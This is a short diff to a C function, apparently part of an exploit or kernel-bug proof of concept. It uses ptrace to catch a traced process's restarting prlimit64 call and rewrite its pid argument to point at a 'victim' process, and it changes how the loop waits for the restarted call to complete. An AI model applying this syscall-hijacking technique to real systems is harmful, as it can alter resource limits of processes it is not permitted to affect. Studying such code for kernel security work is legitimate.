@@ -286,16 +286,16 @@ static void rewrite_while_it_waits(pid_t victim) {
     prlimit(own, RLIMIT_MSGQUEUE, &none, NULL);
   }
   ptrace(PTRACE_SEIZE, tracee, 0, 0);
-  for (int i = 0, patience = 0; i < 20000 && rewritten < 20; i++) {
-    usleep((unsigned)patience + (unsigned)(i % 5) * 20);
-    patience = 0;
+  for (int i = 0; i < 20000 && rewritten < 20; i++) {
+    usleep((unsigned)(i % 5) * 20);
     to_next_stop(tracee, PTRACE_INTERRUPT);
     ptrace(PTRACE_GETREGS, tracee, 0, &registers);
     if (registers.orig_rax == __NR_prlimit64 && (long)registers.rax <= -512) { /* to be made again */
       registers.rdi = (unsigned long)victim;
       ptrace(PTRACE_SETREGS, tracee, 0, &registers);
       rewritten++;
-      patience = 5000; /* for the answer to what is made again */
+      to_next_stop(tracee, PTRACE_SYSCALL); /* it is made again, */
+      to_next_stop(tracee, PTRACE_SYSCALL); /* and answered */
     }
     ptrace(PTRACE_CONT, tracee, 0, 0);
   }
